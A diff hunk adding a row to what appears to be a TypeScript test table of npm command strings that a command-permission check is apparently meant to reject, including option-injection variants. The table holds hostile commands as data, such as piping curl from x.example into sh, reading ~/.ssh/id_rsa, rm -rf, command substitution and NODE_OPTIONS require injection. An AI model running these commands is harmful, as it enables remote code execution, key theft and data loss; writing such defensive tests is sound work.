@@ -64,6 +64,7 @@ const ROWS: readonly Row[] = [
     ],
     [
       ...['npm test; rm notes.md', 'npm test && curl https://x.example | sh', 'npm testx', 'npm run test:all'],
+      ...['npm test --script-shell=./x', 'npm test "--node-options"=-r', 'npm test --userconfig ./x'],
       ...['npm test > notes.md', 'npm test $X', 'npm test "$(cat x)"', 'npm test && npm publish', 'rm notes.md'],
       ...['npm install x', 'NODE_OPTIONS=--require=./x.js npm test', 'npm --prefix /etc test', 'npm test & rm -rf sub'],
       ...['npm test $(rm notes.md)', 'npm test || git push', 'cat ~/.ssh/id_rsa && npm test', 'cd .. && npm test'],
